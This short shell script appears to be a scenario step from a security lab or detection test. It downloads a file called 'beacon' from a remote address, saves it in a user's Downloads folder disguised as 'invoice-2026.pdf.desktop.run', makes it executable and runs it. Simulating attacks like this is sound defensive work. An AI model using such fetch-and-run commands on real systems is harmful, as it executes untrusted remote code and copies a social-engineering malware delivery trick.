#!/bin/sh
. /opt/case/case.sh

mkdir -p /home/anna/Downloads && cd /home/anna/Downloads
curl -s http://203.0.113.10/programs/beacon -o invoice-2026.pdf.desktop.run
chmod +x invoice-2026.pdf.desktop.run
timeout 5 ./invoice-2026.pdf.desktop.run || true
took_place
